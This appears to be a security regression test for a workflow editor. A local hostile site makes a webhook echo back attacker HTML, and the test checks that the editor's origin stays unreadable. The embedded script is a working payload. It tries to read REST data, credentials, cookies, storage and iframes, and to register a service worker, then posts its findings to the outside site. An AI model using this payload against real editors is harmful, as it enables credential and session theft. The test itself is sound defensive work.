import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Millrace } from '../support/millrace.ts';
import { expect, test } from '../support/test.ts';
import { chain, node } from '../support/workflows.ts';

test.use({ isShared: true });

// A page on another site makes a browser show what a workflow answers, and its script tries to reach the editor.

/** Tries everything that would let a page read from the editor's origin, and tells the site what came of it. */
const SCRIPT = `
  const tries = {
    rest: () => fetch('/rest/workflows').then((answer) => answer.text()),
    credentials: () => fetch('/rest/credentials', { credentials: 'include' }).then((answer) => answer.text()),
    write: () => fetch('/rest/workflows', { method: 'POST', body: '{}' }).then((answer) => answer.text()),
    push: () => new Promise((resolve, reject) => {
      const source = new EventSource('/rest/push?sessionId=x');
      source.onopen = () => resolve('open');
      source.onerror = () => reject(new Error('refused'));
    }),
    storage: async () => String(localStorage.length),
    cookies: async () => document.cookie || Promise.reject(new Error('none')),
    frame: () => new Promise((resolve, reject) => {
      const frame = document.createElement('iframe');
      frame.src = '/rest/workflows';
      frame.onload = () => {
        try { resolve(frame.contentDocument.body.textContent); } catch (error) { reject(error); }
      };
      document.documentElement.append(frame);
    }),
    worker: () => navigator.serviceWorker.register('/webhook/worker').then(() => 'registered'),
  };
  const results = Promise.all(Object.entries(tries).map(([name, attempt]) =>
    Promise.resolve().then(attempt).then((found) => [name, 'read: ' + found], () => [name, 'refused'])));
  results.then((list) => fetch('SITE/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(list) }));
`;

/** The site that somebody visits: another host name than the editor's. */
class HostileSite {
  readonly #server: Server;
  #report = Promise.withResolvers<Array<[string, string]>>();
  url = '';

  constructor(pageFor: (site: string) => string) {
    this.#server = createServer(async (request, response) => {
      if (request.url === '/report') {
        this.#report.resolve(JSON.parse((await request.toArray()).join('')));
        response.end();
      } else response.writeHead(200, { 'content-type': 'text/html' }).end(pageFor(this.url));
    });
  }

  async open(): Promise<void> {
    await once(this.#server.listen(0, '127.0.0.1'), 'listening');
    this.url = `http://localhost:${(this.#server.address() as AddressInfo).port}`;
  }

  /** What the script found. */
  report(): Promise<Array<[string, string]>> {
    return this.#report.promise;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

async function activate(millrace: Millrace, workflow: object): Promise<void> {
  const { id } = await millrace.rest<{ id: string }>('POST', '/workflows', workflow);
  await millrace.rest('PATCH', `/workflows/${id}`, { active: true });
}

/** Answers with the file that was sent. */
function echo(headers: object = {}) {
  const hook = { path: 'echo', httpMethod: 'POST', responseMode: 'responseNode', options: {} };
  return chain('Echo', [
    { ...node('Webhook', 'webhook', { typeVersion: 2, parameters: hook }), webhookId: 'echo' },
    node('Respond', 'respondToWebhook', { typeVersion: 1.1, parameters: { respondWith: 'binary', options: headers } }),
  ]);
}

const policy = { entries: [{ name: 'Content-Security-Policy', value: "default-src * 'unsafe-inline'" }] };
const forgedType = { entries: [{ name: 'Content-Type', value: 'image/png, text/html' }] };

for (const { title, type, headers } of [
  { title: 'a page', type: 'text/html', headers: {} },
  { title: 'a page that claims to be a picture', type: 'image/png, text/html', headers: {} },
  { title: 'a page sent under two types', type: 'image/png', headers: { responseHeaders: forgedType } },
  { title: 'a page with a policy of its own', type: 'text/html', headers: { responseHeaders: policy } },
]) {
  test(`${title} that a workflow answers reads nothing of the editor`, async ({ page, millrace }) => {
    await activate(millrace, echo(headers));
    const site = new HostileSite((url) => {
      const html = `<!doctype html><script>${SCRIPT.replace('SITE', url)}</script>`;
      return `<form method="post" enctype="multipart/form-data" action="${millrace.url}/webhook/echo">
        <input type="file" name="data"></form><script>
        const files = new DataTransfer();
        files.items.add(new File([${JSON.stringify(html).replaceAll('</', '<\\/')}], 'x', { type: '${type}' }));
        document.querySelector('input').files = files.files;
        document.querySelector('form').submit();</script>`;
    });
    await site.open();
    try {
      await page.goto(site.url);
      const found = await site.report();
      expect(found.map(([name]) => name)).toEqual([
        'rest',
        'credentials',
        'write',
        'push',
        'storage',
        'cookies',
        'frame',
        'worker',
      ]);
      expect(found.filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    } finally {
      site.close();
    }
  });
}
